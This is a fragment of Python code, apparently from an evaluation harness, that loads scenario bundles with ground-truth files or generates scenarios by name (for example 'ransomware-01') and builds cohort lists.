        lookback_hours=int(truth.get("lookback_hours", LOOKBACK_HOURS)),
        fixtures_dir=str(fixtures) if fixtures.is_dir() else None,
    )


def resolve_scenario(ref: str) -> Scenario:
    """A bundle directory path or a generated scenario name like ``ransomware-01``."""
    p = Path(ref)
    if p.is_dir() and (p / "ground_truth.json").exists():
        return load_bundle(p)
    return scenario_from_name(ref)


def cohort(names: str | Sequence[str] = "default") -> list[str]:
    if isinstance(names, str):
        if names == "default":
            return list(DEFAULT_COHORT)
        return [n.strip() for n in names.split(",") if n.strip()]
    return list(names)
